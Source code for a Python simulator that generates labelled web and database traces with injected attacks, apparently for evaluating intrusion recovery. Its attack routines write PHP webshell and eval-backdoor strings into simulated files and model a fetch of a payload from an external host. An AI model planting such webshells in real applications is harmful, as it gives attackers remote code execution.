"""Ground-truth-labelled multi-host workload simulator.

A small discrete-event model (simpy, integer nanoseconds) of a web server
talking to a database through a connection pool. It emits the canonical
web and DB traces, the DB application log, the data-directory write-log,
periodic DB snapshots and file backups, and a ground truth that labels
every syscall, statement and file operation with its source request.

Two reference interpreters run alongside generation: one applies every
operation, the other skips operations of malicious requests. Neither
shares code with ``statestore``'s apply logic.
"""

from __future__ import annotations

import base64
import json
import random
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Callable, Iterator

import simpy

from .dbattr import DEFAULT_STATEMENT_LOG, AppLogRecord, format_app_log
from .partition import BACKGROUND, ServerModel
from .statestore import (
    DATA,
    SYSTEM_APP,
    BackupChain,
    DBState,
    DBStore,
    FileTree,
    WriteLogRecord,
    canonical_json,
    capture_baseline,
    dump_write_log,
    render_statement,
    snapshot_db,
)
from .trace import (
    DelimiterPayload,
    Event,
    EventLog,
    Marker,
    NetworkTuple,
    SyscallArgs,
    SyscallPayload,
    serialize_trace,
)

START_TS = 1_700_000_000_000_000_000
WEB_HOST = "web"
DB_HOST = "db"
WEB_PID = 1000
DB_PID = 2000
CRON_PID = 600
DB_WORKER_TID0 = 337270
EXTERNAL = ("203.0.113.5", 80)
SLOT = 64
SLOTS = 256

DEFAULT_CLASSIFICATION = {
    "/var/www/app": SYSTEM_APP,
    "/etc": SYSTEM_APP,
    "/usr": SYSTEM_APP,
    "/bin": SYSTEM_APP,
    "/srv/data": DATA,
    "/tmp": DATA,
    "/var/log/app": DATA,
}

ATTACK_KINDS = ("rce_webshell", "sqli_write", "multi_stage")
DB_LOG_MODES = ("syscall_statement_log", "applog_with_client")


class InvalidConfig(ValueError):
    pass


@dataclass
class AttackSpec:
    kind: str
    at_request_index: int
    stage2_index: int | None = None  # multi_stage only


@dataclass
class ScenarioConfig:
    seed: int = 0
    concurrency: int = 10
    request_count: int = 100
    server_model: str = "thread_per_request"
    pool_size: int = 8
    db_log_mode: str = "syscall_statement_log"
    attacks: list[AttackSpec] = field(default_factory=list)
    event_loss_prob: float = 0.0
    clock_skew_ns: int = 0
    loop_threads: int = 2
    snapshot_every: int = 50
    backup_every: int = 50
    split_statement_prob: float = 0.05
    dual_conn_prob: float = 0.05
    crud_writes: tuple[int, int] = (1, 4)
    upload_chunks: tuple[int, int] = (1, 3)
    think_ns: tuple[int, int] = (100_000, 2_000_000)
    handoff_ns: int = 50_000
    cron_every_ns: int = 3_000_000
    web_ip: str = "172.18.0.3"
    db_ip: str = "172.18.0.2"
    db_port: int = 3306
    statement_log_path: str = DEFAULT_STATEMENT_LOG

    def validate(self) -> "ScenarioConfig":
        def need(cond, msg):
            if not cond:
                raise InvalidConfig(msg)

        for name in ("seed", "concurrency", "request_count", "pool_size", "loop_threads",
                     "snapshot_every", "backup_every", "clock_skew_ns", "handoff_ns", "db_port"):
            need(type(getattr(self, name)) is int, f"{name} must be an integer")
        need(self.concurrency >= 1, "concurrency must be >= 1")
        need(self.request_count >= 0, "request_count must be >= 0")
        need(self.pool_size >= 1, "pool_size must be >= 1")
        need(self.loop_threads >= 1, "loop_threads must be >= 1")
        need(self.snapshot_every >= 0 and self.backup_every >= 0, "snapshot/backup intervals must be >= 0")
        need(self.server_model in {m.value for m in ServerModel}, f"unknown server_model {self.server_model!r}")
        need(self.db_log_mode in DB_LOG_MODES, f"unknown db_log_mode {self.db_log_mode!r}")
        for name in ("event_loss_prob", "split_statement_prob", "dual_conn_prob"):
            p = getattr(self, name)
            need(isinstance(p, (int, float)) and 0.0 <= p <= 1.0, f"{name} must be in [0, 1]")
        need(self.dual_conn_prob == 0 or self.pool_size >= 2, "dual connections need pool_size >= 2")
        for name in ("crud_writes", "upload_chunks", "think_ns"):
            lo, hi = getattr(self, name)
            need(0 <= lo <= hi, f"{name} must be an increasing pair")
        need(abs(self.clock_skew_ns) < self.handoff_ns or self.clock_skew_ns == 0,
             "clock skew must stay below the pool handoff gap")
        used = set()
        for a in self.attacks:
            need(a.kind in ATTACK_KINDS, f"unknown attack kind {a.kind!r}")
            idxs = [a.at_request_index]
            if a.kind == "multi_stage":
                idxs.append(self.stage2(a))
            for i in idxs:
                need(type(i) is int and 0 <= i < self.request_count, f"attack index {i} out of range")
                need(i not in used, f"request index {i} used by two attacks")
                used.add(i)
        return self

    @staticmethod
    def stage2(a: AttackSpec) -> int:
        return a.stage2_index if a.stage2_index is not None else a.at_request_index + 10

    @property
    def db_endpoints(self) -> set[tuple[str, int]]:
        return {(self.db_ip, self.db_port)}

    def to_json(self) -> dict:
        obj = asdict(self)
        obj["crud_writes"] = list(self.crud_writes)
        obj["upload_chunks"] = list(self.upload_chunks)
        obj["think_ns"] = list(self.think_ns)
        return obj

    @classmethod
    def from_json(cls, obj: dict) -> "ScenarioConfig":
        if not isinstance(obj, dict):
            raise InvalidConfig("config must be a JSON object")
        known = set(cls.__dataclass_fields__)
        unknown = set(obj) - known
        if unknown:
            raise InvalidConfig(f"unknown config fields {sorted(unknown)}")
        obj = dict(obj)
        try:
            obj["attacks"] = [AttackSpec(**a) for a in obj.get("attacks", [])]
        except TypeError as exc:
            raise InvalidConfig(f"bad attack spec: {exc}") from None
        for name in ("crud_writes", "upload_chunks", "think_ns"):
            if name in obj:
                val = obj[name]
                if not (isinstance(val, list) and len(val) == 2 and all(type(v) is int for v in val)):
                    raise InvalidConfig(f"{name} must be a pair of integers")
                obj[name] = tuple(val)
        return cls(**obj).validate()


# --------------------------------------------------------------------------
# ground truth


def db_id(ts: int, statement: str) -> tuple:
    return ("db", ts, statement)


def file_id(seq: int) -> tuple:
    return ("file", WEB_HOST, seq)


@dataclass
class GroundTruth:
    requests: list[str] = field(default_factory=list)
    malicious: list[str] = field(default_factory=list)
    kinds: dict[str, str] = field(default_factory=dict)
    syscall_labels: dict[int, str] = field(default_factory=dict)  # web seq -> request
    spawned: list[tuple[int, int, int, str]] = field(default_factory=list)  # pid, tid, start ts, request
    statement_labels: dict[tuple[int, str], str] = field(default_factory=dict)
    file_op_labels: dict[int, str] = field(default_factory=dict)  # web seq -> request
    external: dict[str, list[tuple[str, int]]] = field(default_factory=dict)
    pool_usage: dict[str, list[tuple[str, int, int]]] = field(default_factory=dict)
    initial_db: dict = field(default_factory=dict)
    reference_db: dict = field(default_factory=dict)
    benign_db: dict = field(default_factory=dict)
    reference_tree: dict[str, bytes] = field(default_factory=dict)
    benign_tree: dict[str, bytes] = field(default_factory=dict)

    def ops_of(self, rid: str) -> set[tuple]:
        ops = {db_id(ts, st) for (ts, st), r in self.statement_labels.items() if r == rid}
        ops |= {file_id(seq) for seq, r in self.file_op_labels.items() if r == rid}
        return ops

    def op_sets(self) -> dict[str, set[tuple]]:
        out: dict[str, set[tuple]] = {rid: set() for rid in self.requests}
        for (ts, st), r in self.statement_labels.items():
            if r in out:
                out[r].add(db_id(ts, st))
        for seq, r in self.file_op_labels.items():
            if r in out:
                out[r].add(file_id(seq))
        return out

    def Q(self) -> dict[str, frozenset]:
        """Operations each request should have restored after recovery."""
        bad = set(self.malicious)
        return {rid: frozenset() if rid in bad else frozenset(ops) for rid, ops in self.op_sets().items()}

    def malicious_db_ops(self) -> list[tuple[int, str]]:
        bad = set(self.malicious)
        return sorted(k for k, r in self.statement_labels.items() if r in bad)

    def malicious_file_seqs(self) -> list[int]:
        bad = set(self.malicious)
        return sorted(s for s, r in self.file_op_labels.items() if r in bad)

    def to_json(self) -> dict:
        b64 = lambda d: {p: base64.b64encode(v).decode("ascii") for p, v in sorted(d.items())}
        return {
            "requests": self.requests,
            "malicious": self.malicious,
            "kinds": self.kinds,
            "syscall_labels": {str(k): v for k, v in sorted(self.syscall_labels.items())},
            "spawned": [list(s) for s in self.spawned],
            "statement_labels": [[ts, st, r] for (ts, st), r in sorted(self.statement_labels.items())],
            "file_op_labels": {str(k): v for k, v in sorted(self.file_op_labels.items())},
            "external": {r: [list(x) for x in v] for r, v in sorted(self.external.items())},
            "pool_usage": {c: [list(u) for u in v] for c, v in sorted(self.pool_usage.items())},
            "Q": {r: sorted(list(op) for op in ops) for r, ops in sorted(self.Q().items())},
            "initial_db": self.initial_db,
            "reference_db": self.reference_db,
            "benign_db": self.benign_db,
            "reference_tree": b64(self.reference_tree),
            "benign_tree": b64(self.benign_tree),
        }

    @classmethod
    def from_json(cls, obj: dict) -> "GroundTruth":
        unb64 = lambda d: {p: base64.b64decode(v) for p, v in d.items()}
        return cls(
            requests=list(obj["requests"]),
            malicious=list(obj["malicious"]),
            kinds=dict(obj.get("kinds", {})),
            syscall_labels={int(k): v for k, v in obj["syscall_labels"].items()},
            spawned=[tuple(s) for s in obj["spawned"]],
            statement_labels={(ts, st): r for ts, st, r in obj["statement_labels"]},
            file_op_labels={int(k): v for k, v in obj["file_op_labels"].items()},
            external={r: [tuple(x) for x in v] for r, v in obj["external"].items()},
            pool_usage={c: [tuple(u) for u in v] for c, v in obj["pool_usage"].items()},
            initial_db=obj["initial_db"],
            reference_db=obj["reference_db"],
            benign_db=obj["benign_db"],
            reference_tree=unb64(obj["reference_tree"]),
            benign_tree=unb64(obj["benign_tree"]),
        )


@dataclass
class SimulationResult:
    config: ScenarioConfig
    web_trace: bytes
    db_trace: bytes
    db_app_log: str
    write_log: list[WriteLogRecord]
    ground_truth: GroundTruth
    db_store: DBStore
    tree: FileTree
    chain: BackupChain
    baseline: dict[str, bytes]

    @property
    def classification(self) -> dict[str, str]:
        return dict(self.tree.classification)

    def meta(self) -> dict:
        return {
            "server_model": self.config.server_model,
            "db_endpoints": [f"{ip}:{port}" for ip, port in sorted(self.config.db_endpoints)],
            "statement_log_path": self.config.statement_log_path,
            "db_log_mode": self.config.db_log_mode,
            "classification": self.classification,
            "web_host": WEB_HOST,
            "db_host": DB_HOST,
        }


# --------------------------------------------------------------------------
# reference interpreters (deliberately independent of statestore)


class _RefDB:
    def __init__(self, tables: dict):
        self.tables = {t: {k: dict(r) for k, r in rows.items()} for t, rows in tables.items()}

    def apply(self, verb: str, table: str, key: str, fields: dict | None) -> None:
        rows = self.tables.setdefault(table, {})
        if verb == "INS":
            rows[key] = dict(fields)
        elif verb == "UPD":
            if key in rows:
                rows[key].update(fields)
        elif verb == "DEL":
            rows.pop(key, None)

    def export(self) -> dict:
        return json.loads(canonical_json({t: r for t, r in self.tables.items() if r}))


class _RefFS:
    def __init__(self, files: dict[str, bytes]):
        self.files = dict(files)

    def create(self, path: str, truncate: bool) -> None:
        if truncate or path not in self.files:
            self.files[path] = b""

    def write(self, path: str, offset: int, data: bytes) -> None:
        cur = bytearray(self.files[path])
        if len(cur) < offset:
            cur.extend(bytes(offset - len(cur)))
        cur[offset : offset + len(data)] = data
        self.files[path] = bytes(cur)

    def unlink(self, path: str) -> None:
        self.files.pop(path, None)

    def rename(self, old: str, new: str) -> None:
        self.files[new] = self.files.pop(old)


def _classify(path: str) -> str | None:
    for prefix, cls in DEFAULT_CLASSIFICATION.items():
        if path == prefix or path.startswith(prefix + "/"):
            return cls
    return None


def _initial_files() -> dict[str, bytes]:
    files = {
        "/var/www/app/index.php": b"<?php require 'lib/db.php'; render('home'); ?>\n",
        "/var/www/app/config.php": b"<?php $db_host='172.18.0.2'; $db_port=3306; ?>\n",
        "/var/www/app/templates/home.tpl": b"<h1>{$title}</h1>{$body}\n",
        "/var/www/app/lib/db.php": b"<?php function q($s){ return mysqli_query($s); } ?>\n",
        "/etc/passwd": b"root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n",
        "/etc/cron.d/logrotate": b"*/5 * * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
        "/bin/sh": b"\x7fELF-sh",
        "/usr/bin/curl": b"\x7fELF-curl",
        "/usr/bin/convert": b"\x7fELF-convert",
        "/var/log/app/rotate.log": b"",
        "/srv/data/comments.dat": b"".join(f"slot{i:04d}".encode().ljust(SLOT, b".") for i in range(SLOTS)),
    }
    for i in range(20):
        files[f"/srv/data/uploads/seed_{i:03d}.txt"] = f"seed upload {i}\n".encode() * 4
    return files


def _initial_db() -> dict:
    return {
        "users": {"u_admin": {"name": "admin", "role": "admin"}, **{f"u{i}": {"name": f"user{i}", "role": "user"} for i in range(50)}},
        "posts": {f"p{i}": {"title": f"post {i}", "comments": 0} for i in range(100)},
        "settings": {f"s{i}": {"value": i} for i in range(10)},
        "templates": {"home": {"body": "<h1>{$title}</h1>"}, "about": {"body": "about us"}},
        "uploads": {f"seed_{i:03d}": {"path": f"/srv/data/uploads/seed_{i:03d}.txt"} for i in range(20)},
    }


# --------------------------------------------------------------------------
# simulation machinery


@dataclass
class _Conn:
    index: int
    tuple: NetworkTuple
    web_fd: int
    db_fd: int
    worker_tid: int


class _Ctx:
    """Execution context of a request thread/coroutine or a spawned process."""

    def __init__(self, sim: "_Sim", pid: int, tid: int, label: str, malicious: bool, delimited: bool):
        self.sim = sim
        self.pid = pid
        self.tid = tid
        self.label = label
        self.malicious = malicious
        self.delimited = delimited
        self.coroutine = delimited and sim.model is ServerModel.COROUTINE
        self.started = False
        self.running = False
        self.conns: list[_Conn] = []

    # delimiter bookkeeping ------------------------------------------------
    def _ensure_running(self):
        if not self.delimited or self.running:
            return
        if not self.started:
            self.sim.delimiter(self.pid, self.tid, self.label, Marker.BEGIN)
            self.started = True
        elif self.coroutine:
            self.sim.delimiter(self.pid, self.tid, self.label, Marker.SWITCH_IN)
        self.running = True

    def pause(self):
        if self.coroutine and self.running:
            self.sim.delimiter(self.pid, self.tid, self.label, Marker.SWITCH_OUT)
            self.running = False

    def wait(self, ns: int) -> Iterator:
        self.pause()
        yield self.sim.env.timeout(ns)

    def start(self):
        self._ensure_running()

    def finish(self):
        self._ensure_running()
        self.sim.delimiter(self.pid, self.tid, self.label, Marker.END)
        self.running = False

    # syscalls ---------------------------------------------------------------
    def syscall(self, name: str, **args) -> Event:
        self._ensure_running()
        return self.sim.web_syscall(self, name, **args)

    def open(self, path: str, flags: str) -> int:
        fd = self.sim.alloc_fd(self.pid)
        ev = self.syscall("openat", path=path, flags=flags, fd=fd)
        fl = set(flags.split("|"))
        if "O_CREAT" in fl or "O_TRUNC" in fl:
            self.sim.fs_apply(self, ev, "create", path, truncate="O_TRUNC" in fl)
        return fd

    def write(self, fd: int, path: str, offset: int, data: bytes) -> None:
        ev = self.syscall("write", fd=fd, path=path, offset=offset, data=data)
        self.sim.fs_apply(self, ev, "write", path, offset=offset, data=data)

    def read(self, fd: int, path: str | None = None) -> None:
        self.syscall("read", fd=fd, path=path)

    def close(self, fd: int) -> None:
        self.syscall("close", fd=fd)
        self.sim.free_fd(self.pid, fd)

    def unlink(self, path: str) -> None:
        ev = self.syscall("unlink", path=path)
        self.sim.fs_apply(self, ev, "delete", path)

    def rename(self, old: str, new: str) -> None:
        ev = self.syscall("rename", old_path=old, new_path=new)
        self.sim.fs_apply(self, ev, "rename", old, rename_to=new)

    def spawn(self, body: Callable[["_Ctx"], Iterator], exe: str):
        """clone() a child process running ``body``; returns its simpy process."""
        sim = self.sim
        child_pid = sim.alloc_pid()
        self.syscall("clone", child_pid=child_pid, child_tid=child_pid)
        sim.fds[child_pid] = set(sim.fds.get(self.pid, ()))
        child = _Ctx(sim, child_pid, child_pid, self.label, self.malicious, delimited=False)
        sim.gt.spawned.append((child_pid, child_pid, sim.last_ts, self.label))

        def run():
            yield sim.env.timeout(sim.rng.randint(20_000, 80_000))
            child.syscall("execve", path=exe)
            yield from body(child)
            child.syscall("exit")
            sim.release_pid(child_pid)

        return sim.env.process(run())

    # database -------------------------------------------------------------
    def acquire_conn(self, count: int = 1) -> Iterator:
        if len(self.conns) >= count:
            return
        sim = self.sim
        self.pause()
        gate = None
        if count - len(self.conns) > 1:
            gate = sim.dual_gate.request()
            yield gate
        while len(self.conns) < count:
            conn = yield sim.pool.get()
            sim.usage_start[conn.index] = (self.label, sim.env.now)
            self.conns.append(conn)
        if gate is not None:
            sim.dual_gate.release(gate)
        yield sim.env.timeout(sim.cfg.handoff_ns)

    def release_conns(self):
        sim = self.sim
        for conn in self.conns:
            rid, start = sim.usage_start.pop(conn.index)
            usage = sim.gt.pool_usage.setdefault(str(conn.tuple), [])
            if usage and usage[-1][2] > start:
                raise AssertionError(f"pool exclusivity violated on {conn.tuple}")
            usage.append((rid, start, int(sim.env.now)))
            sim.pool.put(conn)
        self.conns = []

    def query(self, conn: _Conn, verb: str, table: str, key: str, fields: dict | None = None) -> Iterator:
        sim = self.sim
        text = f"SEL {table} {key}" if verb == "SEL" else render_statement(verb, table, key, fields)
        self.syscall("write", fd=conn.web_fd, data=b"Q " + text.encode())
        yield from self.wait(sim.rng.randint(20_000, 90_000))
        sim.db_serve(conn, text, None if verb == "SEL" else (verb, table, key, fields), self)
        yield from self.wait(sim.rng.randint(20_000, 90_000))
        self.syscall("read", fd=conn.web_fd, data=b"OK")


class _Sim:
    def __init__(self, cfg: ScenarioConfig):
        self.cfg = cfg
        self.model = ServerModel(cfg.server_model)
        self.rng = random.Random(cfg.seed)
        self.env = simpy.Environment(initial_time=START_TS)
        self.last_ts = START_TS
        self.web_events: list[Event] = []
        self.db_events: list[Event] = []
        self.seq = {WEB_HOST: 0, DB_HOST: 0}
        self.gt = GroundTruth()
        self.app_log: list[AppLogRecord] = []
        self.write_log: list[WriteLogRecord] = []
        self.fds: dict[int, set[int]] = {WEB_PID: set(), DB_PID: set()}
        self.next_pid = 5000
        self.free_pids: list[int] = []
        files = _initial_files()
        self.fs_full = _RefFS(files)
        self.fs_benign = _RefFS(files)
        db = _initial_db()
        self.db_full = _RefDB(db)
        self.db_benign = _RefDB(db)
        self.gt.initial_db = self.db_full.export()
        self.benign_keys = {t: sorted(rows) for t, rows in db.items()}
        self.benign_keys["users"].remove("u_admin")
        self.deletable_uploads = [f"seed_{i:03d}" for i in range(20)]
        self.post_counter = 0
        self.db_store = DBStore(DBState.from_json(db))
        self.chain = BackupChain()
        self.tree_classification = dict(DEFAULT_CLASSIFICATION)
        self.baseline = capture_baseline(FileTree(files, self.tree_classification))
        self.pool = simpy.Store(self.env)
        self.dual_gate = simpy.Resource(self.env, capacity=1)
        self.usage_start: dict[int, tuple[str, int]] = {}
        self.ext_port = 40000
        self.done = False

    # emission -------------------------------------------------------------
    def tick(self) -> int:
        ts = max(int(self.env.now), self.last_ts + 1)
        self.last_ts = ts
        return ts

    def _emit(self, host: str, pid: int, tid: int, payload) -> Event:
        ts = self.tick()
        if host == DB_HOST:
            ts += self.cfg.clock_skew_ns
        self.seq[host] += 1
        ev = Event(self.seq[host], ts, host, pid, tid, payload)
        (self.web_events if host == WEB_HOST else self.db_events).append(ev)
        return ev

    def web_syscall(self, ctx: _Ctx | None, name: str, pid=None, tid=None, **args) -> Event:
        args = {k: v for k, v in args.items() if v is not None}
        ev = self._emit(WEB_HOST, ctx.pid if ctx else pid, ctx.tid if ctx else tid, SyscallPayload(name, SyscallArgs(**args)))
        self.gt.syscall_labels[ev.seq] = ctx.label if ctx else BACKGROUND
        return ev

    def db_syscall(self, tid: int, name: str, **args) -> Event:
        args = {k: v for k, v in args.items() if v is not None}
        return self._emit(DB_HOST, DB_PID, tid, SyscallPayload(name, SyscallArgs(**args)))

    def delimiter(self, pid: int, tid: int, rid: str, marker: Marker) -> None:
        self._emit(WEB_HOST, pid, tid, DelimiterPayload(rid, marker))

    # fds / pids -------------------------------------------------------------
    def alloc_fd(self, pid: int) -> int:
        used = self.fds.setdefault(pid, set())
        fd = 3
        while fd in used:
            fd += 1
        used.add(fd)
        return fd

    def free_fd(self, pid: int, fd: int) -> None:
        self.fds.get(pid, set()).discard(fd)

    def alloc_pid(self) -> int:
        if self.free_pids and self.rng.random() < 0.5:
            self.free_pids.sort()
            return self.free_pids.pop(0)
        self.next_pid += 1
        return self.next_pid

    def release_pid(self, pid: int) -> None:
        self.fds.pop(pid, None)
        self.free_pids.append(pid)

    # state effects ----------------------------------------------------------
    def fs_apply(self, ctx: _Ctx, ev: Event, kind: str, path: str, *, offset=0, data=b"", truncate=False, rename_to=None):
        for fs, on in ((self.fs_full, True), (self.fs_benign, not ctx.malicious)):
            if not on:
                continue
            if kind == "create":
                fs.create(path, truncate)
            elif kind == "write":
                fs.write(path, offset, data)
            elif kind == "delete":
                fs.unlink(path)
            else:
                fs.rename(path, rename_to)
        self.gt.file_op_labels[ev.seq] = ctx.label
        if _classify(path) == DATA or (rename_to and _classify(rename_to) == DATA):
            self.write_log.append(
                WriteLogRecord(ev.seq, ev.ts, ev.pid, ev.tid, path, offset, data, kind, rename_to, truncate)
            )

    def db_serve(self, conn: _Conn, text: str, stmt, ctx: _Ctx) -> None:
        self.db_syscall(conn.worker_tid, "read", fd=conn.db_fd, data=b"Q " + text.encode())
        if stmt is not None:
            verb, table, key, fields = stmt
            self.db_full.apply(verb, table, key, fields)
            if not ctx.malicious:
                self.db_benign.apply(verb, table, key, fields)
            self.db_store.state.apply(text)
            line = (text + "\n").encode()
            parts = [line]
            if len(line) > 8 and self.rng.random() < self.cfg.split_statement_prob:
                cut = self.rng.randint(1, len(line) - 2)
                parts = [line[:cut], line[cut:]]
            first = None
            for part in parts:
                ev = self.db_syscall(conn.worker_tid, "write", fd=3, path=self.cfg.statement_log_path, data=part)
                first = first if first is not None else ev.ts
            client = conn.tuple.client if self.cfg.db_log_mode == "applog_with_client" else None
            self.app_log.append(AppLogRecord(first, client, text))
            self.gt.statement_labels[(first, text)] = ctx.label
        self.db_syscall(conn.worker_tid, "write", fd=conn.db_fd, data=b"OK")

    def checkpoint(self, db: bool, files: bool) -> None:
        ts = self.tick()
        if db:
            self.db_store.snapshots.append(snapshot_db(self.db_store.state, ts + self.cfg.clock_skew_ns))
        if files:
            self.chain.backup(FileTree(self.fs_full.files, self.tree_classification), ts)

    # topology ---------------------------------------------------------------
    def startup(self) -> list[int]:
        cfg = self.cfg
        self.web_syscall(None, "execve", pid=WEB_PID, tid=WEB_PID, path="/usr/sbin/php-fpm")
        self.web_syscall(None, "execve", pid=CRON_PID, tid=CRON_PID, path="/usr/sbin/cron")
        self.db_syscall(DB_PID, "execve", path="/usr/sbin/mysqld")
        self.fds[DB_PID].add(3)
        self.db_syscall(DB_PID, "openat", path=cfg.statement_log_path, flags="O_WRONLY|O_APPEND|O_CREAT", fd=3)
        if self.model is ServerModel.THREAD_PER_REQUEST:
            tids = [WEB_PID + 1 + i for i in range(cfg.concurrency)]
        else:
            tids = [WEB_PID + 1 + i for i in range(cfg.loop_threads)]
        for tid in tids:
            self.web_syscall(None, "clone", pid=WEB_PID, tid=WEB_PID, child_pid=WEB_PID, child_tid=tid)
        for i in range(cfg.pool_size):
            tup = NetworkTuple(cfg.web_ip, 50000 + i, cfg.db_ip, cfg.db_port)
            web_fd = self.alloc_fd(WEB_PID)
            self.web_syscall(None, "socket", pid=WEB_PID, tid=WEB_PID, fd=web_fd)
            self.web_syscall(None, "connect", pid=WEB_PID, tid=WEB_PID, fd=web_fd, **_tuple_args(tup))
            worker = DB_WORKER_TID0 + i
            self.db_syscall(DB_PID, "clone", child_pid=DB_PID, child_tid=worker)
            db_fd = self.alloc_fd(DB_PID)
            self.db_syscall(worker, "accept", fd=db_fd, **_tuple_args(tup))
            self.pool.put(_Conn(i, tup, web_fd, db_fd, worker))
        self.checkpoint(db=True, files=True)
        return tids


def _tuple_args(tup: NetworkTuple) -> dict:
    return {"src_ip": tup.src_ip, "src_port": tup.src_port, "dst_ip": tup.dst_ip, "dst_port": tup.dst_port}


# --------------------------------------------------------------------------
# request bodies


def _page_view(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    rng = sim.rng
    yield from ctx.acquire_conn()
    conn = ctx.conns[0]
    yield from ctx.query(conn, "SEL", "posts", f"p{rng.randrange(100)}")
    fd = ctx.open("/var/www/app/templates/home.tpl", "O_RDONLY")
    ctx.read(fd, "/var/www/app/templates/home.tpl")
    ctx.close(fd)
    yield from ctx.query(conn, "SEL", "templates", "home")
    yield from ctx.wait(rng.randint(10_000, 60_000))


def _pick(sim: _Sim, table: str) -> str | None:
    keys = sim.benign_keys.get(table) or []
    return sim.rng.choice(keys) if keys else None


def _crud(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    rng = sim.rng
    dual = rng.random() < sim.cfg.dual_conn_prob
    yield from ctx.acquire_conn(2 if dual else 1)
    n = rng.randint(*sim.cfg.crud_writes)
    for i in range(n):
        conn = ctx.conns[i % len(ctx.conns)]
        r = rng.random()
        if r < 0.35:
            sim.post_counter += 1
            key = f"n{idx}_{i}"
            yield from ctx.query(conn, "INS", "posts", key, {"title": f"new {idx}.{i}", "comments": 0})
            sim.benign_keys["posts"].append(key)
        elif r < 0.65:
            key = _pick(sim, "posts")
            if key:
                yield from ctx.query(conn, "UPD", "posts", key, {"title": f"edit {idx}.{i}"})
        elif r < 0.8:
            key = _pick(sim, "users")
            yield from ctx.query(conn, "UPD", "users", key, {"seen": idx})
        elif r < 0.9:
            yield from ctx.query(conn, "INS", "sessions", f"sess{idx}_{i}", {"user": _pick(sim, "users")})
        else:
            key = _pick(sim, "posts")
            if key:
                sim.benign_keys["posts"].remove(key)
                yield from ctx.query(conn, "DEL", "posts", key)
        if rng.random() < 0.3:
            yield from ctx.query(conn, "SEL", "posts", _pick(sim, "posts") or "p0")


def _upload(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    rng = sim.rng
    key = f"up{idx:05d}"
    tmp = f"/srv/data/tmp/{key}.part"
    final = f"/srv/data/uploads/{key}.txt"
    fd = ctx.open(tmp, "O_WRONLY|O_CREAT|O_TRUNC")
    offset = 0
    for c in range(rng.randint(*sim.cfg.upload_chunks)):
        chunk = f"upload {idx} chunk {c} ".encode() * rng.randint(1, 4)
        ctx.write(fd, tmp, offset, chunk)
        offset += len(chunk)
        yield from ctx.wait(rng.randint(5_000, 30_000))
    ctx.close(fd)
    ctx.rename(tmp, final)
    if rng.random() < 0.4:
        def thumbnail(child: _Ctx) -> Iterator:
            rfd = child.open(final, "O_RDONLY")
            child.read(rfd, final)
            child.close(rfd)
            yield sim.env.timeout(rng.randint(50_000, 200_000))
            thumb = f"/srv/data/uploads/{key}.thumb"
            wfd = child.open(thumb, "O_WRONLY|O_CREAT|O_TRUNC")
            child.write(wfd, thumb, 0, b"THUMB" + key.encode())
            child.close(wfd)

        proc = ctx.spawn(thumbnail, "/usr/bin/convert")
        ctx.pause()
        yield proc
    yield from ctx.acquire_conn()
    yield from ctx.query(ctx.conns[0], "INS", "uploads", key, {"path": final, "size": offset})
    sim.deletable_uploads.append(key)


def _comment(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    rng = sim.rng
    slot = rng.randrange(SLOTS)
    path = "/srv/data/comments.dat"
    fd = ctx.open(path, "O_WRONLY")
    ctx.write(fd, path, slot * SLOT, f"c{idx:06d}:".encode().ljust(SLOT, b"-"))
    ctx.close(fd)
    yield from ctx.acquire_conn()
    conn = ctx.conns[0]
    yield from ctx.query(conn, "INS", "comments", f"c{idx}", {"slot": slot})
    post = _pick(sim, "posts")
    if post:
        yield from ctx.query(conn, "UPD", "posts", post, {"comments": idx})
    if rng.random() < 0.3 and len(sim.deletable_uploads) > 5:
        victim = sim.deletable_uploads.pop(rng.randrange(len(sim.deletable_uploads) - 3))
        upath = f"/srv/data/uploads/{victim}.txt"
        if upath in sim.fs_full.files:
            ctx.unlink(upath)
        yield from ctx.query(conn, "DEL", "uploads", victim)


def _config_update(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    rng = sim.rng
    yield from ctx.acquire_conn()
    for _ in range(rng.randint(1, 2)):
        yield from ctx.query(ctx.conns[0], "UPD", "settings", f"s{rng.randrange(10)}", {"value": idx})


BENIGN = (
    (0.30, "page_view", _page_view),
    (0.30, "crud", _crud),
    (0.15, "upload", _upload),
    (0.15, "comment", _comment),
    (0.10, "config_update", _config_update),
)


def _download(sim: _Sim, child: _Ctx, dest: str, body: bytes) -> Iterator:
    """curl -o <dest>: one outbound fetch, then create+write of the file."""
    sim.ext_port += 1
    tup = NetworkTuple(sim.cfg.web_ip, sim.ext_port, *EXTERNAL)
    sfd = sim.alloc_fd(child.pid)
    child.syscall("socket", fd=sfd)
    child.syscall("connect", fd=sfd, **_tuple_args(tup))
    request = b"GET /payload HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n"
    child.syscall("sendto", fd=sfd, data=request)
    yield sim.env.timeout(sim.rng.randint(200_000, 900_000))
    child.syscall("recvfrom", fd=sfd, data=body)
    sim.gt.external.setdefault(child.label, []).append((str(tup), len(request)))
    wfd = child.open(dest, "O_WRONLY|O_CREAT|O_TRUNC")
    child.write(wfd, dest, 0, body)
    child.close(wfd)
    child.close(sfd)


def _rce_webshell(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    yield from ctx.acquire_conn()
    yield from ctx.query(ctx.conns[0], "SEL", "posts", "p1")
    shell_path = f"/var/www/app/shell_{idx}.php"
    slot = sim.rng.randrange(SLOTS)

    def sh(child: _Ctx) -> Iterator:
        curl = child.spawn(lambda c: _download(sim, c, shell_path, b"<?php system($_GET['c']); ?>"), "/usr/bin/curl")
        yield curl
        cfg = "/var/www/app/config.php"
        fd = child.open(cfg, "O_WRONLY|O_APPEND")
        child.write(fd, cfg, len(sim.fs_full.files[cfg]), b"<?php @eval($_POST['x']); ?>\n")
        child.close(fd)
        data = "/srv/data/comments.dat"
        fd = child.open(data, "O_WRONLY")
        child.write(fd, data, slot * SLOT, b"PWNED".ljust(SLOT, b"!"))
        child.close(fd)

    proc = ctx.spawn(sh, "/bin/sh")
    ctx.pause()
    yield proc


def _sqli_write(sim: _Sim, ctx: _Ctx, idx: int) -> Iterator:
    yield from ctx.acquire_conn()
    conn = ctx.conns[0]
